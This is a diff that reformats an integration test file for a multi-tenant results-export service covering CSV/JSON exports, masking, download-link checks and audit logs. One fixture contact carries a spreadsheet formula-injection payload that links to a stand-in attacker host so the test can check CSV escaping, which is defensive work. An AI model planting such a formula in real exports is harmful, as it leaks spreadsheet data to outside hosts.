@@ -17,7 +17,12 @@ import type { RecordType } from '../../../src/records/record-type.js';
 import type { ChatMessage } from '../../../src/records/chat-schema.js';
 import type { CsvValue } from '../../../src/results-export/csv-encoding.js';
 import { chatMessageCells, chatMessageHeader, exportCells, exportHeader } from '../../../src/results-export/export-columns.js';
-import { RESULT_EXPORT_CHUNK_BYTES, ResultExportsStore, type ResultExport, type ResultExportProgress } from '../../../src/results-export/result-exports-store.js';
+import {
+  RESULT_EXPORT_CHUNK_BYTES,
+  ResultExportsStore,
+  type ResultExport,
+  type ResultExportProgress,
+} from '../../../src/results-export/result-exports-store.js';
 import { createResultsExportQueue, createResultsExportWorker, type ResultsExportJobData } from '../../../src/results-export/results-export-queue.js';
 import { ResultsExportService } from '../../../src/results-export/results-export-service.js';
 import { runResultsExport } from '../../../src/results-export/run-results-export.js';
@@ -49,10 +54,18 @@ const now = () => new Date(clock.getTime());
 let calls: CallLog[];
 let contacts: Contact[];
 /** 450 messages of about 3 KB each: over 1 MiB of transcript, read in several pages. */
-const LONG_CHAT = chatWithTranscript({ id: 'chat-long', tenantId: TENANT, tag: 'long-transcript', messages: 450, startedAt: '2026-05-04T10:30:00.000Z', fillerChars: 3000 });
+const LONG_CHAT = chatWithTranscript({
+  id: 'chat-long',
+  tenantId: TENANT,
+  tag: 'long-transcript',
+  messages: 450,
+  startedAt: '2026-05-04T10:30:00.000Z',
+  fillerChars: 3000,
+});
 const EMPTY_CHAT = chatWithoutMessages({ id: 'chat-empty', tenantId: TENANT, tag: 'no-messages', startedAt: '2026-05-04T10:45:00.000Z' });
 
-const principal = (id: string, dataTypes: RecordType[], capabilities: string[], tenantId = TENANT): Principal => principalOf({ id, tenantId, role: 'administrator', dataTypes, capabilities });
+const principal = (id: string, dataTypes: RecordType[], capabilities: string[], tenantId = TENANT): Principal =>
+  principalOf({ id, tenantId, role: 'administrator', dataTypes, capabilities });
 const owner = principalOf({ id: 'owner', tenantId: TENANT, role: 'owner' });
 const exporter = principal('exporter', ['call-logs', 'chats', 'contacts'], ['export']);
 
@@ -109,7 +122,11 @@ async function chatsAsShown(who: Principal, filter: Record<string, unknown>, unm
   return shown;
 }
 
-const codeOf = async (promise: Promise<unknown>) => promise.then(() => 'resolved', (err: { code?: string }) => err.code);
+const codeOf = async (promise: Promise<unknown>) =>
+  promise.then(
+    () => 'resolved',
+    (err: { code?: string }) => err.code,
+  );
 
 beforeAll(async () => {
   harness = await createImportHarness(inject('mongoUrl'));
@@ -121,7 +138,12 @@ beforeAll(async () => {
   for (const tenant of [TENANT, OTHER]) await harness.setUpTenant(tenant);
   calls = [...generateRecords({ seed: 7, tenantId: TENANT, type: 'call-logs', from: FROM, to: TO, ratesPerHour: { 'call-logs': 60 } })];
   contacts = [...generateRecords({ seed: 7, tenantId: TENANT, type: 'contacts', from: FROM, to: TO, ratesPerHour: { contacts: 12 } })];
-  const hostile = { ...(contacts[0] as Contact), id: 'contact-hostile', displayName: '=HYPERLINK("http://evil.example/?x="&A1,"click")', organization: 'Acme, "Quoted"\nInc.' };
+  const hostile = {
+    ...(contacts[0] as Contact),
+    id: 'contact-hostile',
+    displayName: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    organization: 'Acme, "Quoted"\nInc.',
+  };
   contacts.push(hostile);
   const chats = [...generateRecords({ seed: 7, tenantId: TENANT, type: 'chats', from: FROM, to: TO, ratesPerHour: { chats: 6 } })];
   const writer = new ArchiveWriter(await harness.archiveDb(TENANT), TENANT, `${TENANT}/2026/05/04/manifest-test.json`);
@@ -130,7 +152,8 @@ beforeAll(async () => {
   for (const chat of [...chats, LONG_CHAT, EMPTY_CHAT]) await writer.add('chats', chat);
   await writer.finish();
   const other = new ArchiveWriter(await harness.archiveDb(OTHER), OTHER, `${OTHER}/2026/05/04/manifest-test.json`);
-  for (const call of generateRecords({ seed: 8, tenantId: OTHER, type: 'call-logs', from: FROM, to: TO, ratesPerHour: { 'call-logs': 20 } })) await other.add('call-logs', call);
+  for (const call of generateRecords({ seed: 8, tenantId: OTHER, type: 'call-logs', from: FROM, to: TO, ratesPerHour: { 'call-logs': 20 } }))
+    await other.add('call-logs', call);
   await other.finish();
   await harness.store.ensureIndexes(TENANT);
 
@@ -157,7 +180,7 @@ afterAll(async () => {
 });
 
 describe('results export', () => {
-  it('exports the filter\'s call logs as JSON, equal to the query results, unmasked for the owner', async () => {
+  it("exports the filter's call logs as JSON, equal to the query results, unmasked for the owner", async () => {
     const svc = service();
     const filter = { outcome: 'answered', from: '2026-05-04T09:00:00Z' };
     const job = await svc.request(owner, { type: 'call-logs', format: 'json', filter });
@@ -165,7 +188,11 @@ describe('results export', () => {
     const done = await finished(TENANT, job.id);
     const expected = await everyPage((cursor) => harness.store.listCallLogs(archiveAccessFor(owner), filter, { limit: 50, ...(cursor ? { cursor } : {}) }));
     expect(expected.length).toBeGreaterThan(40);
-    expect(done).toMatchObject({ status: 'done', progress: { records: expected.length }, file: { records: expected.length, contentType: 'application/json; charset=utf-8' } });
+    expect(done).toMatchObject({
+      status: 'done',
+      progress: { records: expected.length },
+      file: { records: expected.length, contentType: 'application/json; charset=utf-8' },
+    });
     expect(done.file?.name).toMatch(/^call-logs-20260505-090000-unmasked\.json$/);
     const body = await download(svc, owner, job.id);
     expect(JSON.parse(body)).toEqual(expected);
@@ -185,10 +212,12 @@ describe('results export', () => {
     const [header, ...rows] = parseCsv(body.slice(1));
     expect(header).toEqual(exportHeader('contacts'));
     const listed = await everyPage((cursor) => harness.store.listContacts(archiveAccessFor(exporter), {}, { limit: 50, ...(cursor ? { cursor } : {}) }));
-    const expected = listed.map((contact) => exportCells('contacts', maskRecord('contacts', contact, { unmasked: false })).map((cell) => {
-      const textCell = cell === undefined || cell === null ? '' : String(cell);
-      return typeof cell === 'string' && /^[=+\-@\t\r]/.test(cell) ? `'${textCell}` : textCell;
-    }));
+    const expected = listed.map((contact) =>
+      exportCells('contacts', maskRecord('contacts', contact, { unmasked: false })).map((cell) => {
+        const textCell = cell === undefined || cell === null ? '' : String(cell);
+        return typeof cell === 'string' && /^[=+\-@\t\r]/.test(cell) ? `'${textCell}` : textCell;
+      }),
+    );
     expect(rows).toEqual(expected);
     expect(rows).toHaveLength(contacts.length);
     const hostile = rows.find((row) => row[0] === 'contact-hostile');
@@ -250,7 +279,9 @@ describe('results export', () => {
       expect(header).toEqual(chatMessageHeader());
       expect(header?.slice(0, exportHeader('chats').length)).toEqual(exportHeader('chats'));
       const expected = await chatsAsShown(chatsOnly, {}, false);
-      const expectedRows = expected.flatMap(({ chat, messages }) => (messages.length === 0 ? [undefined] : messages).map((message) => asRead(chatMessageCells(chat, message))));
+      const expectedRows = expected.flatMap(({ chat, messages }) =>
+        (messages.length === 0 ? [undefined] : messages).map((message) => asRead(chatMessageCells(chat, message))),
+      );
       expect(rows).toEqual(expectedRows);
       const column = (name: string): number => header?.indexOf(name) ?? -1;
       const longRows = rows.filter((row) => row[0] === 'chat-long');
@@ -274,7 +305,9 @@ describe('results export', () => {
       expect(done.file?.name).toMatch(/^chats-\d{8}-\d{6}\.csv$/);
       const [header, ...rows] = parseCsv((await download(svc, chatsOnly, job.id)).slice(1));
       expect(header).toEqual(exportHeader('chats'));
-      const listed = await everyPage((cursor) => harness.store.listChats(archiveAccessFor(chatsOnly), { channel: 'web' }, { limit: 50, ...(cursor ? { cursor } : {}) }));
+      const listed = await everyPage((cursor) =>
+        harness.store.listChats(archiveAccessFor(chatsOnly), { channel: 'web' }, { limit: 50, ...(cursor ? { cursor } : {}) }),
+      );
       expect(rows).toEqual(listed.map((chat) => asRead(exportCells('chats', maskRecord('chats', chat, { unmasked: false })))));
       expect(rows.filter((row) => row[0] === 'chat-long')).toHaveLength(1);
     });
@@ -291,7 +324,19 @@ describe('results export', () => {
 
     it('reads a long transcript page by page and reports progress with its messages while writing it', async () => {
       const id = randomBytes(12).toString('hex');
-      await exportsStore.create({ id, tenantId: TENANT, userId: 'owner', type: 'chats', format: 'csv', filter: { tag: 'long-transcript' }, masked: true, withMessages: true, limits: { maxRecords: 10, maxBytes: 10 * 1024 ** 2 }, createdAt: now(), expiresAt: new Date(clock.getTime() + 3_600_000) });
+      await exportsStore.create({
+        id,
+        tenantId: TENANT,
+        userId: 'owner',
+        type: 'chats',
+        format: 'csv',
+        filter: { tag: 'long-transcript' },
+        masked: true,
+        withMessages: true,
+        limits: { maxRecords: 10, maxBytes: 10 * 1024 ** 2 },
+        createdAt: now(),
+        expiresAt: new Date(clock.getTime() + 3_600_000),
+      });
       const transcriptPages: PageRequest[] = [];
       const archive = {
         listCallLogs: harness.store.listCallLogs.bind(harness.store),
@@ -304,7 +349,9 @@ describe('results export', () => {
         },
       };
       const reports: ResultExportProgress[] = [];
-      const file = await runResultsExport({ tenantId: TENANT, exportId: id }, { archive, exports: exportsStore, options: { pageSize: 40 }, now }, (progress) => reports.push(progress));
+      const file = await runResultsExport({ tenantId: TENANT, exportId: id }, { archive, exports: exportsStore, options: { pageSize: 40 }, now }, (progress) =>
+        reports.push(progress),
+      );
       expect(transcriptPages).toHaveLength(Math.ceil(450 / 40));
       expect(transcriptPages.every((page) => page.limit === 40)).toBe(true);
       expect(transcriptPages[0]?.cursor).toBeUndefined();
@@ -390,19 +437,40 @@ describe('results export', () => {
     it.each<[string, () => Promise<unknown>, string]>([
       ['a malformed token', async () => svc.openDownload(exporter, job.id, 'nope'), 'ERR_EXPORT_LINK_INVALID'],
       ['a forged token', async () => svc.openDownload(exporter, job.id, 'A'.repeat(43)), 'ERR_EXPORT_LINK_INVALID'],
-      ['another user with the same link', async () => svc.openDownload(principal('someone-else', ['call-logs'], ['export']), job.id, (await svc.createDownloadLink(exporter, job.id)).token), 'ERR_EXPORT_LINK_INVALID'],
-      ['the same user id in another tenant', async () => svc.openDownload(principal('exporter', ['call-logs'], ['export'], OTHER), job.id, (await svc.createDownloadLink(exporter, job.id)).token), 'ERR_EXPORT_LINK_INVALID'],
+      [
+        'another user with the same link',
+        async () => svc.openDownload(principal('someone-else', ['call-logs'], ['export']), job.id, (await svc.createDownloadLink(exporter, job.id)).token),
+        'ERR_EXPORT_LINK_INVALID',
+      ],
+      [
+        'the same user id in another tenant',
+        async () => svc.openDownload(principal('exporter', ['call-logs'], ['export'], OTHER), job.id, (await svc.createDownloadLink(exporter, job.id)).token),
+        'ERR_EXPORT_LINK_INVALID',
+      ],
       ['another user asking for a link', async () => svc.createDownloadLink(principal('someone-else', ['call-logs'], ['export']), job.id), 'ERR_NOT_FOUND'],
       ['another user reading the status', async () => svc.get(principal('someone-else', ['call-logs'], ['export']), job.id), 'ERR_NOT_FOUND'],
-      ['the user after losing export', async () => svc.openDownload(principal('exporter', ['call-logs'], []), job.id, (await svc.createDownloadLink(exporter, job.id)).token), 'ERR_FORBIDDEN'],
-      ['the user after losing the data type', async () => svc.openDownload(principal('exporter', ['chats'], ['export']), job.id, (await svc.createDownloadLink(exporter, job.id)).token), 'ERR_FORBIDDEN'],
+      [
+        'the user after losing export',
+        async () => svc.openDownload(principal('exporter', ['call-logs'], []), job.id, (await svc.createDownloadLink(exporter, job.id)).token),
+        'ERR_FORBIDDEN',
+      ],
+      [
+        'the user after losing the data type',
+        async () => svc.openDownload(principal('exporter', ['chats'], ['export']), job.id, (await svc.createDownloadLink(exporter, job.id)).token),
+        'ERR_FORBIDDEN',
+      ],
     ])('refuses %s', async (_name, attempt, code) => {
       expect(await codeOf(attempt())).toBe(code);
     });
   });
 
   it.each<[string, Principal, unknown, string]>([
-    ['a principal without export', principal('reader', ['call-logs', 'chats', 'contacts'], ['see-unmasked-personal-data']), { type: 'call-logs', format: 'csv' }, 'ERR_FORBIDDEN'],
+    [
+      'a principal without export',
+      principal('reader', ['call-logs', 'chats', 'contacts'], ['see-unmasked-personal-data']),
+      { type: 'call-logs', format: 'csv' },
+      'ERR_FORBIDDEN',
+    ],
     ['a type outside the data scope', principal('chats-only', ['chats'], ['export']), { type: 'call-logs', format: 'json' }, 'ERR_FORBIDDEN'],
     ['an unknown type', exporter, { type: 'emails', format: 'json' }, 'ERR_EXPORT_REQUEST_INVALID'],
     ['an unknown format', exporter, { type: 'chats', format: 'xlsx' }, 'ERR_EXPORT_REQUEST_INVALID'],
@@ -430,13 +498,17 @@ describe('results export', () => {
       ['export.downloaded', 'success'],
       ['export.downloaded', 'failure'],
     ]);
-    expect(entries[1]).toMatchObject({ target: `export:${job.id}`, ip: '203.0.113.9', details: { type: 'contacts', format: 'json', masked: true, filter: '{"name":"a"}' } });
+    expect(entries[1]).toMatchObject({
+      target: `export:${job.id}`,
+      ip: '203.0.113.9',
+      details: { type: 'contacts', format: 'json', masked: true, filter: '{"name":"a"}' },
+    });
     expect(entries[2]?.details).toMatchObject({ records: expect.any(Number), bytes: expect.any(Number) });
     expect(entries[3]?.details).toEqual({ reason: 'used' });
     expect((await harness.controlPlane.audit.verifyChain(TENANT)).intact).toBe(true);
   });
 
-  it('lists only the user\'s own exports of their own tenant', async () => {
+  it("lists only the user's own exports of their own tenant", async () => {
     const svc = service();
     const mine = await svc.list(exporter);
     expect(mine.length).toBeGreaterThan(0);
@@ -451,7 +523,18 @@ describe('results export', () => {
       const path = join(directory, 'file.bin');
       await writeFile(path, bytes);
       const id = randomBytes(12).toString('hex');
-      await exportsStore.create({ id, tenantId: TENANT, userId: 'u', type: 'chats', format: 'json', filter: {}, masked: true, limits: { maxRecords: 1, maxBytes: 1 }, createdAt: now(), expiresAt: new Date(clock.getTime() + 3_600_000) });
+      await exportsStore.create({
+        id,
+        tenantId: TENANT,
+        userId: 'u',
+        type: 'chats',
+        format: 'json',
+        filter: {},
+        masked: true,
+        limits: { maxRecords: 1, maxBytes: 1 },
+        createdAt: now(),
+        expiresAt: new Date(clock.getTime() + 3_600_000),
+      });
       await exportsStore.saveFile(TENANT, id, path, { name: 'x.json', contentType: 'application/json', records: 0, bytes: bytes.length, sha256: '' }, now());
       await exportsStore.saveFile(TENANT, id, path, { name: 'x.json', contentType: 'application/json', records: 0, bytes: bytes.length, sha256: '' }, now());
       expect(Buffer.compare(await buffer(exportsStore.openFile(TENANT, id)), bytes)).toBe(0);
